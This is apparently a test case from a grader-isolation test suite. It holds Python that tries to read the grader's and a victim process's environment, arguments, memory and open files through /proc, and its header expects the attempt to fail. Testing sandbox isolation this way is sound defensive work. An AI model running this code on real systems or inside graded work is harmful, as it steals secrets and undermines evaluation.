# ROW: 19
# ATTACK: reads environment, arguments, memory and open files of the grader and of its own parent through /proc
# EXPECT: FAILED
# CONTROL: bare -> canary: the grader's environment and memory are printed
# TIERS: 3 2
# NEEDS: linux
# OPEN: environment, arguments, memory and files of the grader can be read through /proc
import os

import lore


def show(path, start=0, length=65536):
    try:
        with open(path, "rb", buffering=0) as file:
            file.seek(start)
            print(file.read(length))
    except OSError:
        pass


def target(x):
    for pid, address, length in (lore.GRADER_SECRET, lore.VICTIM_SECRET, (os.getppid(), 0, 0)):
        for name in ("environ", "cmdline", "maps"):
            show(f"/proc/{pid}/{name}")
        show(f"/proc/{pid}/mem", address, length)
        show(f"/proc/{pid}/root{lore.HIDDEN}")
        show(f"/proc/{pid}/cwd/..{lore.HIDDEN}")
        try:
            for number in os.listdir(f"/proc/{pid}/fd"):
                if pid == lore.VICTIM and int(number) == lore.VICTIM_DESCRIPTOR:
                    show(f"/proc/{pid}/fd/{number}")
        except OSError:
            pass
    return 0 * x
